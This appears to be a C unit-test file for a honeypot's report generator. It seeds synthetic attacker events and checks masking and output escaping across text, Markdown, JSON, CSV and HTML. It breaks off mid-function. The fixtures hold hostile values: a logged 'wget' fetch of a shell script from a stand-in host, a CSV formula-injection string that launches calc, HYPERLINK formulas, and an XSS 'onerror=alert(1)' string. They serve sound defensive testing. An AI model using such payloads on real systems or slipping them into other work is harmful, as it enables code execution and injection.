/*
 * test_report.c - unit tests for `hanipo report` (src/cli/report.c and
 * report_fmt.c, compiled in directly like test_term.c does with term.c).
 *
 * An in-memory events table (the schema of src/store/sqlite.c) is filled
 * with a generated data set whose answers are known: three countries with
 * 50/30/20 connections over two days, fixed credential counts (one username
 * full of terminal, Markdown and HTML syntax), downloads, HTTP classes,
 * fingerprints, and a day before the range for "seen before".  Each section
 * is checked in the model (numbers and order), then each writer is checked
 * for escaping, masking and table integrity, and the HTML page for its four
 * charts (one slice, bar or column per row) and for escaping; --abuse for
 * one file per ASN with the right addresses, counts and sample lines.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "cli/report.c"
#include "cli/report_fmt.c"
#include "cli/report_html.c"
#include "cli/report_abuse.c"
#include "cli/report_rollup.c"
#include "cli/report_clickhouse.c"
#include "cli/rollup.c"
#include "store/rollup.h"
#include "cli/term.c"

#define DAY1 1793491200000000LL     /* 2026-11-01T00:00:00Z */
#define EVIL "e\\u001b[31m|<script>\\n" /* as JSON text */
#define EVIL_RAW "e\x1b[31m|<script>\n"

static sqlite3 *db;

/* The schema of src/store/sqlite.c. */
static const char schema_sql_for_test[] =
    "CREATE TABLE IF NOT EXISTS events("
    " id INTEGER PRIMARY KEY,"
    " ts INTEGER NOT NULL,"
    " eventid TEXT NOT NULL,"
    " session TEXT,"
    " protocol TEXT,"
    " src_ip TEXT,"
    " src_port INTEGER,"
    " dst_port INTEGER,"
    " data TEXT NOT NULL);"
    "CREATE INDEX IF NOT EXISTS events_ts ON events(ts);"
    "CREATE INDEX IF NOT EXISTS events_src_ip ON events(src_ip);"
    "CREATE INDEX IF NOT EXISTS events_protocol ON events(protocol);"
    "CREATE INDEX IF NOT EXISTS events_dst_port ON events(dst_port);"
    "CREATE INDEX IF NOT EXISTS events_eventid_ts ON events(eventid, ts);"
    "CREATE TABLE IF NOT EXISTS meta(key TEXT PRIMARY KEY, value TEXT);";

static void ins(int64_t ts, const char *ev, const char *ip, int port, const char *extra)
{
    char data[4096];
    snprintf(data, sizeof(data), "{\"eventid\":\"%s\",\"src_ip\":\"%s\",\"dst_port\":%d%s%s}", ev, ip, port,
             extra[0] ? "," : "", extra);
    sqlite3_stmt *st;
    assert_int_equal(sqlite3_prepare_v2(db, "INSERT INTO events(ts, eventid, session, protocol, src_ip,"
                                            " src_port, dst_port, data) VALUES (?, ?, 's', 'ssh', ?, 1234, ?, ?)",
                                        -1, &st, NULL), SQLITE_OK);
    sqlite3_bind_int64(st, 1, ts);
    sqlite3_bind_text(st, 2, ev, -1, SQLITE_TRANSIENT);
    sqlite3_bind_text(st, 3, ip, -1, SQLITE_TRANSIENT);
    sqlite3_bind_int(st, 4, port);
    sqlite3_bind_text(st, 5, data, -1, SQLITE_TRANSIENT);
    assert_int_equal(sqlite3_step(st), SQLITE_DONE);
    sqlite3_finalize(st);
}

static void conn(int n, const char *ip, int port, const char *cc, const char *asn, int day2_only)
{
    char extra[256];
    snprintf(extra, sizeof(extra), "\"src_cc\":\"%s\",\"src_country\":\"C-%s\",\"src_asn\":\"%s\"", cc, cc,
             asn);
    for (int i = 0; i < n; i++)
        ins(DAY1 + ((day2_only || i % 2) ? RP_DAY_US : 0) + i, "session.connect", ip, port, extra);
}

static void fill(void)
{
    assert_int_equal(sqlite3_open(":memory:", &db), SQLITE_OK);
    assert_int_equal(sqlite3_exec(db, schema_sql_for_test, NULL, NULL, NULL), SQLITE_OK);
    sqlite3_exec(db, "BEGIN", NULL, NULL, NULL);
    /* before the range: seen before */
    ins(DAY1 - 1000, "session.connect", "192.0.2.1", 23, "");
    ins(DAY1 - 999, "login.failed", "192.0.2.1", 23, "\"username\":\"root\",\"password\":\"admin\"");
    ins(DAY1 - 998, "session.file_download", "192.0.2.1", 23, "\"shasum\":\"s1\",\"url\":\"http://x/\"");
    /* countries 50 / 30 / 20 */
    conn(30, "192.0.2.1", 23, "JP", "AS1", 0);
    conn(20, "192.0.2.2", 23, "JP", "AS1", 0);
    conn(30, "198.51.100.7", 22, "US", "AS2", 1);
    conn(10, "203.0.113.9", 23, "DE", "AS3", 0);
    conn(10, "203.0.113.9", 8080, "DE", "AS3", 0);
    /* credentials: root/admin 8 (1 ok), admin/admin 5, EVIL/x 2 */
    const char *dev = ",\"cred_device\":\"Huawei\",\"cred_botnets\":[\"mirai\",\"gafgyt\"]";
    char extra[512];
    for (int i = 0; i < 8; i++) {
        snprintf(extra, sizeof(extra), "\"username\":\"root\",\"password\":\"admin\"%s", dev);
        ins(DAY1 + 100 + i, i ? "login.failed" : "login.success", "192.0.2.1", 23, extra);
    }
    for (int i = 0; i < 5; i++)
        ins(DAY1 + 200 + i, "login.failed", "192.0.2.2", 23, "\"username\":\"admin\",\"password\":\"admin\"");
    for (int i = 0; i < 2; i++)
        ins(DAY1 + 300 + i, "login.failed", "203.0.113.9", 23, "\"username\":\"" EVIL "\",\"password\":\"x\"");
    /* commands and downloads */
    for (int i = 0; i < 3; i++) {
        ins(DAY1 + 400 + i, "command.input", "192.0.2.1", 23, "\"input\":\"wget http://203.0.113.50/x.sh\"");
        ins(DAY1 + 410 + i, "session.file_download", "192.0.2.1", 23,
            "\"url\":\"http://203.0.113.50/x.sh\",\"shasum\":\"s1\",\"type\":\"POSIX shell script\","
            "\"family\":\"dropper\"");
    }
    /* two tries of the same URL that failed, and a URL never fetched */
    for (int i = 0; i < 2; i++)
        ins(DAY1 + 415 + i, "session.file_download.failed", "192.0.2.1", 23,
            "\"url\":\"http://203.0.113.50/x.sh\",\"reason\":\"connect\"");
    ins(DAY1 + 418, "session.file_download.failed", "192.0.2.2", 23,
        "\"url\":\"http://203.0.113.60/dead.sh\",\"reason\":\"dns\"");
    ins(DAY1 + 420, "command.input", "192.0.2.2", 23, "\"input\":\"uname -a\"");
    ins(DAY1 + 421, "session.file_download", "192.0.2.2", 23,
        "\"url\":\"http://203.0.113.50/m.arm\",\"shasum\":\"s2\",\"type\":\"ELF\",\"family\":\"mirai\"");
    ins(DAY1 + 422, "payload.new", "192.0.2.2", 23, "\"shasum\":\"s2\",\"type\":\"ELF\",\"family\":\"mirai\"");
    /* HTTP */
    for (int i = 0; i < 4; i++)
        ins(DAY1 + 500 + i, "http.request", "198.51.100.7", 80,
            "\"uri\":\"/a\",\"attack_classes\":[\"rce\",\"command-injection\"],\"cves\":[\"CVE-2017-17215\"],"
            "\"owasp_iot\":\"I3\"");
    for (int i = 0; i < 2; i++)
        ins(DAY1 + 510 + i, "http.request", "198.51.100.7", 80,
            "\"uri\":\"/b\",\"attack_classes\":[\"scanner\"],\"owasp_iot\":\"I5\"");
    ins(DAY1 + 600, "tls.client_hello", "198.51.100.7", 443, "\"ja3\":\"j1\",\"ja4\":\"t13\",\"client\":\"curl\"");
    ins(DAY1 + 601, "tls.client_hello", "198.51.100.7", 443, "\"ja3\":\"j1\",\"ja4\":\"t13\",\"client\":\"curl\"");
    ins(DAY1 + 602, "client.kex", "192.0.2.1", 22, "\"hassh\":\"h1\",\"client\":\"OpenSSH\"");
    /* after the range: ignored */
    ins(DAY1 + 2 * RP_DAY_US, "session.connect", "10.9.9.9", 23, "\"src_cc\":\"FR\"");
    sqlite3_exec(db, "COMMIT", NULL, NULL, NULL);
}

static struct rp_opts opts(enum rp_format fmt, bool mask)
{
    struct rp_opts o = { .since_us = DAY1, .until_us = DAY1 + 2 * RP_DAY_US, .top = 10, .fmt = fmt,
                         .mask = mask, .width = 100 };
    return o;
}

static void build(struct rp_report *r, bool mask)
{
    char err[256];
    struct rp_opts o = opts(RP_TEXT, mask);
    if (!db)
        fill();
    assert_int_equal(hp_report_build(db, &o, r, err, sizeof(err)), 0);
}

static const struct rp_section *sec(const struct rp_report *r, const char *id)
{
    const struct rp_section *s = hp_report_section(r, id);
    assert_non_null(s);
    return s;
}

static void want_text(const struct rp_section *s, size_t row, int col, const char *v)
{
    assert_true(row < s->nrows);
    const struct rp_cell *c = rp_cell_at(s, row, col);
    assert_non_null(c->s);
    assert_int_equal(c->n, strlen(v));
    assert_memory_equal(c->s, v, c->n);
}

static void want_num(const struct rp_section *s, size_t row, int col, int64_t v)
{
    assert_true(row < s->nrows);
    assert_int_equal(rp_cell_at(s, row, col)->num, v);
}

/* Every cell of every section, from the events table and from the roll-ups. */
static void same_report(const struct rp_report *a, const struct rp_report *b)
{
    assert_int_equal(a->nsections, b->nsections);
    for (size_t i = 0; i < a->nsections; i++) {
        const struct rp_section *x = &a->sections[i], *y = &b->sections[i];
        if (x->nrows != y->nrows)
            fail_msg("section %s: %zu rows from events, %zu from roll-ups", x->id, x->nrows, y->nrows);
        for (size_t r = 0; r < x->nrows; r++) {
            for (int c = 0; c < x->ncols; c++) {
                const struct rp_cell *p = rp_cell_at(x, r, c), *q = rp_cell_at(y, r, c);
                if (p->num != q->num || !p->s != !q->s || (p->s && strcmp(p->s, q->s) != 0))
                    fail_msg("section %s row %zu col %d: '%s' %lld vs '%s' %lld", x->id, r, c,
                             p->s ? p->s : "(null)", (long long)p->num, q->s ? q->s : "(null)",
                             (long long)q->num);
            }
        }
    }
}

static void compare_ranges(int64_t since, int64_t until, enum rp_rollup want)
{
    char err[256];
    struct rp_report raw, ru;
    struct rp_opts o = opts(RP_TEXT, false);
    o.since_us = since;
    o.until_us = until;
    assert_int_equal(hp_report_rollup_usable(db, &o), want);
    assert_int_equal(hp_report_build(db, &o, &ru, err, sizeof(err)), 0);
    o.no_rollup = true;
    assert_int_equal(hp_report_build(db, &o, &raw, err, sizeof(err)), 0);
    same_report(&raw, &ru);
    hp_report_free(&raw);
    hp_report_free(&ru);
}

/* The roll-up tables, rebuilt from the events, answer every section alike. */
static void test_rollup_agrees(void **state)
{
    (void)state;
    char err[256];
    if (!db)
        fill();
    struct rp_opts o = opts(RP_TEXT, false);
    assert_int_equal(hp_report_rollup_usable(db, &o), RP_ROLLUP_NONE);    /* not built yet */
    assert_int_equal(hp_rollup_rebuild(db, NULL, NULL, err, sizeof(err)), 0);
    compare_ranges(DAY1, DAY1 + 2 * RP_DAY_US, RP_ROLLUP_DAY);
    compare_ranges(DAY1 - RP_DAY_US, DAY1 + RP_DAY_US, RP_ROLLUP_DAY);          /* "seen before" differs */
    compare_ranges(DAY1 + 3600000000LL, DAY1 + 30 * 3600000000LL, RP_ROLLUP_HOUR);
    compare_ranges(DAY1 + 1, DAY1 + RP_DAY_US, RP_ROLLUP_NONE);
}

static void test_sources(void **state)
{
    struct rp_report r;
    build(&r, false);
    const struct rp_section *s = sec(&r, "countries");
    assert_int_equal(s->nrows, 3);
    want_text(s, 0, 0, "JP"); want_text(s, 0, 1, "C-JP"); want_num(s, 0, 2, 50); want_num(s, 0, 3, 2);
    want_text(s, 1, 0, "US"); want_num(s, 1, 2, 30);
    want_text(s, 2, 0, "DE"); want_num(s, 2, 2, 20);
    s = sec(&r, "asns");
    want_text(s, 0, 0, "AS1"); want_num(s, 0, 2, 50);
    s = sec(&r, "ips");                 /* ties ordered by address */
    assert_int_equal(s->nrows, 4);
    want_text(s, 0, 0, "192.0.2.1"); want_num(s, 0, 3, 30);
    want_text(s, 1, 0, "198.51.100.7"); want_num(s, 1, 3, 30);
    want_text(s, 2, 0, "192.0.2.2");
    want_text(s, 3, 0, "203.0.113.9"); want_num(s, 3, 4, 2);
    s = sec(&r, "ports");
    assert_int_equal(s->nrows, 3);
    want_num(s, 0, 0, 23); want_num(s, 0, 1, 60); want_text(s, 0, 3, "30 30");
    want_num(s, 1, 0, 22); want_num(s, 1, 1, 30); want_text(s, 1, 3, "0 30");
    want_num(s, 2, 0, 8080); want_text(s, 2, 3, "5 5");
    s = sec(&r, "daily");
    assert_int_equal(s->nrows, 2);
    want_text(s, 0, 0, "2026-11-01"); want_num(s, 0, 1, 35);
    want_text(s, 1, 0, "2026-11-02"); want_num(s, 1, 1, 65);
    s = sec(&r, "protocols");
    want_text(s, 0, 0, "ssh"); want_num(s, 0, 1, 100);
    s = sec(&r, "eventids");
    want_text(s, 0, 0, "session.connect"); want_num(s, 0, 1, 100);
    hp_report_free(&r);
}

static void test_credentials(void **state)
{
    struct rp_report r;
    build(&r, false);
    const struct rp_section *s = sec(&r, "usernames");
    assert_int_equal(s->nrows, 3);
    want_text(s, 0, 0, "root"); want_num(s, 0, 1, 8); want_num(s, 0, 2, 1);
    want_text(s, 1, 0, "admin"); want_num(s, 1, 1, 5);
    want_text(s, 2, 0, EVIL_RAW); want_num(s, 2, 1, 2);
    s = sec(&r, "passwords");
    want_text(s, 0, 0, "admin"); want_num(s, 0, 1, 13);
    want_text(s, 1, 0, "x"); want_num(s, 1, 1, 2);
    s = sec(&r, "pairs");
    want_text(s, 0, 0, "root"); want_text(s, 0, 1, "admin"); want_num(s, 0, 2, 8); want_num(s, 0, 3, 1);
    want_text(s, 0, 4, "Huawei"); want_text(s, 0, 5, "mirai, gafgyt");
    assert_null(rp_cell_at(s, 1, 4)->s);
    s = sec(&r, "new_vs_seen");
    assert_int_equal(s->nrows, 3);
    want_text(s, 0, 0, "Source IPs"); want_num(s, 0, 1, 4); want_num(s, 0, 2, 3); want_num(s, 0, 3, 1);
    want_text(s, 1, 0, "Credentials"); want_num(s, 1, 1, 3); want_num(s, 1, 2, 2);
    want_text(s, 2, 0, "Payloads"); want_num(s, 2, 1, 2); want_num(s, 2, 2, 1); want_num(s, 2, 3, 1);
    hp_report_free(&r);
}

static void test_payloads_http(void **state)
{
    struct rp_report r;
    build(&r, false);
    const struct rp_section *s = sec(&r, "commands");
    want_text(s, 0, 0, "wget http://203.0.113.50/x.sh"); want_num(s, 0, 1, 3);
    want_text(s, 1, 0, "uname -a");
    s = sec(&r, "downloads");       /* attempts, fetched, sources, type, sha256 */
    assert_int_equal(s->nrows, 3);
    want_text(s, 0, 0, "http://203.0.113.50/x.sh"); want_num(s, 0, 1, 5); want_num(s, 0, 2, 3);
    want_num(s, 0, 3, 1); want_text(s, 0, 5, "s1");
    want_text(s, 1, 0, "http://203.0.113.50/m.arm"); want_num(s, 1, 1, 1); want_num(s, 1, 2, 1);
    want_text(s, 2, 0, "http://203.0.113.60/dead.sh"); want_num(s, 2, 1, 1); want_num(s, 2, 2, 0);
    s = sec(&r, "payloads");
    assert_int_equal(s->nrows, 2);
    want_text(s, 0, 0, "s1"); want_text(s, 0, 1, "dropper"); want_num(s, 0, 3, 3);
    want_text(s, 1, 0, "s2"); want_text(s, 1, 1, "mirai"); want_num(s, 1, 3, 1);
    s = sec(&r, "http_paths");
    want_text(s, 0, 0, "/a"); want_num(s, 0, 1, 4);
    s = sec(&r, "attack_classes");
    assert_int_equal(s->nrows, 3);
    want_text(s, 0, 0, "command-injection"); want_num(s, 0, 1, 4);
    want_text(s, 1, 0, "rce"); want_text(s, 2, 0, "scanner"); want_num(s, 2, 1, 2);
    s = sec(&r, "cves");
    assert_int_equal(s->nrows, 1);
    want_text(s, 0, 0, "CVE-2017-17215");
    s = sec(&r, "owasp_iot");
    want_text(s, 0, 0, "I3"); want_text(s, 0, 1, "Insecure ecosystem interfaces"); want_num(s, 0, 2, 4);
    want_text(s, 1, 0, "I5"); want_num(s, 1, 2, 2);
    s = sec(&r, "ja3");
    want_text(s, 0, 0, "j1"); want_text(s, 0, 1, "curl"); want_num(s, 0, 2, 2);
    s = sec(&r, "hassh");
    want_text(s, 0, 0, "h1"); want_text(s, 0, 1, "OpenSSH");
    hp_report_free(&r);
}

static void test_mask(void **state)
{
    char out[128];
    const char *t = "a 10.20.30.40:80 1.2.3.4.5 999.1.1.1 x8.8.8.8";
    hp_report_mask_text(t, strlen(t), out, sizeof(out));
    assert_string_equal(out, "a 10.20.x.x:80 1.2.3.4.5 999.1.1.1 x8.8.x.x");
    hp_report_mask_ip("2001:db8:1:2::5", 15, out, sizeof(out));
    assert_string_equal(out, "2001:db8:x:x:x:x:x:x");
    hp_report_mask_ip("::ffff:192.0.2.1", 16, out, sizeof(out));
    assert_string_equal(out, "::ffff:192.0.x.x");
    struct rp_report r;
    build(&r, true);
    const struct rp_section *s = sec(&r, "ips");      /* 192.0.2.1 and .2 become one row */
    assert_int_equal(s->nrows, 3);
    want_text(s, 0, 0, "192.0.x.x"); want_num(s, 0, 3, 50);
    s = sec(&r, "commands");
    want_text(s, 0, 0, "wget http://203.0.x.x/x.sh");
    s = sec(&r, "downloads");
    want_text(s, 0, 0, "http://203.0.x.x/x.sh");
    hp_report_free(&r);
    /* a NUL in a value (an SSH or Redis password may hold one) does not cut what follows it,
     * in the model nor in SQL (rp_mtxt, registered with masking by the build above) */
    struct rp_cell c = { 0 };
    rp_cell_set(&c, "ro\0ot 1.2.3.4", 13);
    rp_mask_cell(&c);
    assert_int_equal(c.n, 13);
    assert_memory_equal(c.s, "ro\0ot 1.2.x.x", 13);
    free(c.s);
    sqlite3_stmt *st;
    assert_int_equal(sqlite3_prepare_v2(db, "SELECT hex(rp_mtxt(CAST(X'726f006f7420312e322e332e34' AS TEXT)))",
                                        -1, &st, NULL), SQLITE_OK);
    assert_int_equal(sqlite3_step(st), SQLITE_ROW);
    assert_string_equal((const char *)sqlite3_column_text(st, 0), "726F006F7420312E322E782E78");
    sqlite3_finalize(st);
}

static void test_time(void **state)
{
    int64_t us;
    assert_int_equal(hp_report_parse_time("2026-11-01", &us), 0);
    assert_int_equal(us, DAY1);
    assert_int_equal(hp_report_parse_time("2026-11-01T01:02:03Z", &us), 0);
    assert_int_equal(us, DAY1 + 3723000000LL);
    assert_int_equal(hp_report_parse_time("2026-11-01T01:02Z", &us), 0);
    assert_int_equal(hp_report_parse_time("2026-02-30", &us), -1);
    assert_int_equal(hp_report_parse_time("2026-11-01T25:00Z", &us), -1);
    assert_int_equal(hp_report_parse_time("2026-11-01x", &us), -1);
}

/* Render the data set in one format into out (NUL-terminated). */
static void render(struct hp_buf *out, enum rp_format fmt, bool ja, int width)
{
    struct rp_report r;
    build(&r, false);
    struct rp_opts o = opts(fmt, false);
    o.ja = ja;
    o.width = width;
    hp_buf_init(out, 1u << 24);
    hp_report_write(&r, &o, out);
    hp_report_free(&r);
    assert_true(hp_buf_ok(out));
    hp_buf_cstr(out);
}

/* The lines of the section titled 'title' up to the next blank line or heading. */
static const char *after(const char *text, const char *title)
{
    const char *p = strstr(text, title);
    assert_non_null(p);
    return p;
}

static void test_text(void **state)
{
    struct hp_buf b;
    render(&b, RP_TEXT, false, 100);
    const char *t = (const char *)b.data;
    assert_null(memchr(t, 0x1b, b.len));
    assert_non_null(strstr(t, "e\\x1b[31m|<script>\\x0a"));
    assert_non_null(strstr(t, "(UTC)"));
    /* aligned: numbers right-aligned under their heading */
    const char *c = after(t, "Top source countries");
    assert_non_null(strstr(c, "  CC  Country  Connections  IPs\n  JP  C-JP              50    2\n"
                              "  US  C-US              30    1\n"));
    /* no line wider than the terminal */
    for (const char *line = t; *line; ) {
        const char *nl = strchr(line, '\n');
        size_t len = nl ? (size_t)(nl - line) : strlen(line);
        char tmp[512];
        assert_true(len < sizeof(tmp));
        memcpy(tmp, line, len);
        tmp[len] = '\0';
        assert_true(rf_width(tmp) <= 100);
        line += len + (nl ? 1 : 0);
    }
    hp_buf_free(&b);
    /* narrow: long cells are cut with "..." */
    render(&b, RP_TEXT, false, 40);
    t = (const char *)b.data;
    assert_non_null(strstr(t, "  wget http://203.0.113.5...      3    1\n"));
    hp_buf_free(&b);
    render(&b, RP_TEXT, true, 100);
    t = (const char *)b.data;
    assert_non_null(strstr(t, "送信元の国\n"));
    assert_non_null(strstr(t, "ユーザー名"));
    assert_non_null(strstr(t, "パスワード"));
    assert_non_null(strstr(t, "新規"));
    hp_buf_free(&b);
}

static void test_markdown(void **state)
{
    struct hp_buf b;
    render(&b, RP_MD, false, 100);
    const char *t = (const char *)b.data;
    assert_null(memchr(t, 0x1b, b.len));
    assert_non_null(strstr(t, "## Top usernames\n\n| Username | Attempts | Successes | IPs |\n"
                              "| --- | ---: | ---: | ---: |\n| root | 8 | 1 | 1 |\n"));
    assert_non_null(strstr(t, "| e\\\\x1b\\[31m\\|\\<script\\>\\\\x0a | 2 | 0 | 1 |\n"));
    /* every table row has exactly ncols + 1 unescaped pipes */
    const char *u = after(t, "## Top username/password pairs");
    u = strchr(u, '|');
    for (int row = 0; row < 5; row++) {
        const char *nl = strchr(u, '\n');
        int pipes = 0;
        for (const char *p = u; p < nl; p++) {
            if (*p == '\\') { p++; continue; }
            pipes += *p == '|';
        }
        assert_int_equal(pipes, 7);
        u = nl + 1;
    }
    hp_buf_free(&b);
    /* kramdown (Jekyll, GitHub Pages) passes {::nomarkdown}...{:/} through raw, where a backslash
     * before < is no escape: the braces are escaped; GFM turns http:// and www. into live links
     * (to the attacker's malware): the colon and the dot are escaped */
    static const char nomd[] = "{::nomarkdown}<img src=x onerror=alert(1)// >{:/}";
    hp_buf_init(&b, 4096);
    rf_md_text(&b, nomd, sizeof(nomd) - 1);
    hp_buf_cstr(&b);
    assert_string_equal((const char *)b.data,
                        "\\{\\:\\:nomarkdown\\}\\<img src=x onerror=alert(1)// \\>\\{\\:/\\}");
    hp_buf_reset(&b);
    rf_md_text(&b, "http://www.x.sh/ $a$", 20);
    hp_buf_cstr(&b);
    assert_string_equal((const char *)b.data, "http\\://www\\.x\\.sh/ \\$a\\$");
    hp_buf_free(&b);
}

static void test_json_csv(void **state)
{
    struct hp_buf b;
    render(&b, RP_JSON, false, 100);
    const char *t = (const char *)b.data;
    assert_non_null(strstr(t, "\"since\":\"2026-11-01T00:00:00Z\",\"until\":\"2026-11-03T00:00:00Z\""));
    assert_non_null(strstr(t, "{\"cc\":\"JP\",\"country\":\"C-JP\",\"connections\":50,\"ips\":2}"));
    assert_non_null(strstr(t, "{\"username\":\"e\\u001b[31m|<script>\\n\",\"attempts\":2"));
    assert_non_null(strstr(t, "{\"username\":\"admin\",\"password\":\"admin\",\"attempts\":5,\"successes\":0,"
                              "\"device\":null,\"botnets\":null}"));
    hp_buf_free(&b);
    render(&b, RP_CSV, false, 100);
    t = (const char *)b.data;
    assert_non_null(strstr(t, "section,cc,country,connections,ips\r\ncountries,JP,C-JP,50,2\r\n"));
    /* printed on a terminal as often as opened in a spreadsheet: no control character, ESC
     * included, leaves a cell raw (a backslash stays one) */
    assert_null(memchr(t, 0x1b, b.len));
    assert_non_null(strstr(t, "usernames,e\\x1b[31m|<script>\\x0a,2,0,1\r\n"));
    assert_non_null(strstr(t, "pairs,root,admin,8,1,Huawei,\"mirai, gafgyt\"\r\n"));
    char field[] = "=cmd|' /C calc'!A0";
    hp_buf_reset(&b);
    rf_csv_field(&b, field, strlen(field));
    assert_int_equal(b.len, strlen(field) + 3);
    assert_memory_equal(b.data, "\"'=cmd", 6);
    hp_buf_reset(&b);
    rf_csv_field(&b, "\ta\\b\xe2\x80\xae,", 8);                   /* TAB, backslash, RLO, comma */
    assert_int_equal(b.len, 22);
    assert_memory_equal(b.data, "\"\\x09a\\b\\xe2\\x80\\xae,\"", 22);
    /* a ';' import (German, French locales) splits mid-field, where our quotes are not at a
     * cell's start: every cell it could split off that opens with a formula gets a ' */
    static const struct { const char *in, *out; } semi[] = {
        { "a;=HYPERLINK(\"http://x\")", "\"a;'=HYPERLINK(\"\"http://x\"\")\"" },
        { "x;@SUM(A1);+1;-2", "\"x;'@SUM(A1);'+1;'-2\"" },
        { "=1;=2", "\"'=1;'=2\"" },
        { "a; \"=1", "\"a;' \"\"=1\"" },
        { "a;b", "\"a;b\"" },
    };
    for (size_t i = 0; i < sizeof(semi) / sizeof(semi[0]); i++) {
        hp_buf_reset(&b);
        rf_csv_field(&b, semi[i].in, strlen(semi[i].in));
        hp_buf_cstr(&b);
        assert_string_equal((const char *)b.data, semi[i].out);
    }
    hp_buf_free(&b);
}

static size_t count(const char *hay, const char *needle)
{
    size_t n = 0;
    for (const char *p = hay; (p = strstr(p, needle)); p++)
        n++;
    return n;
}

static void test_html(void **state)
{
    struct hp_buf b;
    render(&b, RP_HTML, false, 100);
    const char *t = (const char *)b.data;
    assert_null(memchr(t, 0x1b, b.len));
    assert_int_equal(count(t, "<script"), 0);
    assert_non_null(strstr(t, "<td>e\\x1b[31m|&lt;script&gt;\\x0a</td>"));
    assert_non_null(strstr(t, "id=\"chart-countries\""));
    assert_non_null(strstr(t, "id=\"chart-ports\""));
    assert_non_null(strstr(t, "id=\"chart-daily\""));
    assert_non_null(strstr(t, "id=\"chart-credentials\""));
    assert_int_equal(count(t, "class=\"slice\""), 3);
    assert_int_equal(count(t, "class=\"bar\""), 3);
    assert_int_equal(count(t, "class=\"day\""), 2);
    assert_int_equal(count(t, "class=\"word\""), 3 + 2);
    assert_non_null(strstr(t, "JP C-JP (50, 50.0%)"));
    hp_buf_free(&b);
}

/* Well-formed UTF-8, every sequence whole (a cut one leaves a lead byte without its tail). */
static bool utf8_whole(const uint8_t *s, size_t n)
{
    for (size_t i = 0; i < n; ) {
        size_t k = s[i] < 0x80 ? 1 : (s[i] & 0xe0) == 0xc0 ? 2 : (s[i] & 0xf0) == 0xe0 ? 3
                 : (s[i] & 0xf8) == 0xf0 ? 4 : 0;
        if (k == 0 || i + k > n)
            return false;
        for (size_t j = 1; j < k; j++)
            if ((s[i + j] & 0xc0) != 0x80)
                return false;
        i += k;
    }
    return true;
}

/* --top 100000: the cloud stops at RH_CLOUD_CAP between words (no tag, entity or UTF-8
 * sequence cut, the SVG and figure closed) and says so. */
static void test_html_cloud_cut(void **state)
{
    enum { NU = 30000, NP = 10 };
    struct rp_section u = { .id = "usernames", .ncols = 2, .nrows = NU }, p = u;
    p.id = "passwords";
    p.nrows = NP;
    u.cells = calloc(2 * NU, sizeof(*u.cells));
    p.cells = calloc(2 * NP, sizeof(*p.cells));
    assert_true(u.cells && p.cells);
    char *text = malloc((size_t)(NU + NP) * 32);
    assert_non_null(text);
    for (size_t i = 0; i < NU + NP; i++) {
        struct rp_cell *c = i < NU ? &u.cells[2 * i] : &p.cells[2 * (i - NU)];
        c->s = text + i * 32;
        c->n = (size_t)snprintf(c->s, 32, "\xc3\xa9&\"%zu\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac", i);
        c[1].num = (int64_t)(NU + NP - i);
    }
    struct rp_opts o = { 0 };
    struct hp_buf b;
    hp_buf_init(&b, 64u << 20);
    rh_cloud(&b, &u, &p, &o);
    assert_true(hp_buf_ok(&b));
    hp_buf_cstr(&b);
    const char *t = (const char *)b.data;
    size_t words = count(t, "<text class=\"word\"");
    assert_true(words > 1000 && words < NU);
    assert_int_equal(count(t, "</text>"), words);
    assert_int_equal(count(t, "<svg "), 1);
    assert_int_equal(count(t, "</svg>"), 1);
    assert_true(b.len < RH_CLOUD_CAP + 4096);
    assert_true(utf8_whole(b.data, b.len));
    const char *end = strstr(t, "</svg>");
    char note[128];
    snprintf(note, sizeof(note), "</svg><p class=\"cut\">%zu of %d words shown</p></figure>\n", words, NU + NP);
    assert_string_equal(end, note);
    /* each word's text whole: its entities and all three euro signs */
    assert_int_equal(count(t, "&amp;&quot;"), words);
    assert_int_equal(count(t, "\xe2\x82\xac\xe2\x82\xac\xe2\x82\xac</text>"), words);
    hp_buf_free(&b);
    free(text);
    free(u.cells);
    free(p.cells);
}

static char *slurp(const char *path)
{
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    static char text[1 << 16];
    size_t n = fread(text, 1, sizeof(text) - 1, f);
    text[n] = '\0';
    fclose(f);
    return text;
}

static void test_abuse(void **state)
{
    char dir[] = "/tmp/test_report_XXXXXX", err[256], path[128];
    assert_non_null(mkdtemp(dir));
    struct rp_opts o = opts(RP_TEXT, true);        /* masking does not apply to abuse files */
    if (!db)
        fill();
    assert_int_equal(hp_report_abuse(db, &o, dir, NULL, err, sizeof(err)), 0);
    snprintf(path, sizeof(path), "%s/AS1.txt", dir);
    const char *t = slurp(path);
    assert_non_null(strstr(t, "Abuse report: AS1\nPeriod: 2026-11-01T00:00:00Z .. 2026-11-03T00:00:00Z (UTC)"));
    assert_non_null(strstr(t, "192.0.2.1 [JP]\n  first seen 2026-11-01T00:00:00Z, last seen 2026-11-02T00:00:00Z\n"
                              "  connections 30, login attempts 8, commands 3, downloads 3, HTTP requests 0\n"
                              "  > {\"eventid\":\"login.success\""));
    assert_non_null(strstr(t, "192.0.2.2 [JP]"));
    assert_null(strstr(t, "203.0.113.9"));
    assert_null(strstr(t, "x.x"));
    unlink(path);
    snprintf(path, sizeof(path), "%s/AS3.txt", dir);
    t = slurp(path);                                /* JSON escapes kept readable, ESC never raw */
    assert_non_null(strstr(t, "\"username\":\"e\\u001b[31m|<script>\\n\""));
    assert_null(strchr(t, 0x1b));
    unlink(path);
    snprintf(path, sizeof(path), "%s/AS2.txt", dir);
    assert_int_equal(unlink(path), 0);
    assert_int_equal(rmdir(dir), 0);
}

static int teardown(void **state)
{
    if (db)
        sqlite3_close(db);
    db = NULL;
    return 0;
}

/* The ClickHouse backend answers every section of the SQLite report, with the same
 * columns; placeholders and command-line values become SQL only in quoted form. */
static void test_clickhouse_sections(void **state)
{
    for (size_t i = 0; i < hp_report_ndefs(); i++) {
        struct rp_section sec;
        hp_report_section_init(&sec, i);
        const struct ch_def *d = ch_find(sec.id);
        if (!d)
            fail_msg("section %s has no ClickHouse query", sec.id);
        assert_null(strstr(d->sql, "json_extract"));
    }
    assert_int_equal(CH_NDEFS, hp_report_ndefs());

    struct rp_opts o = { .since_us = DAY1, .until_us = DAY1 + 2 * CH_DAY_US, .top = 7, .mask = false,
                         .sensors = "tokyo, o'brien\\x", .sensor_country = "tokyo:JP o'brien:DE" };
    struct ch_ctx x;
    char err[256];
    memset(&x, 0, sizeof(x));
    x.o = &o;
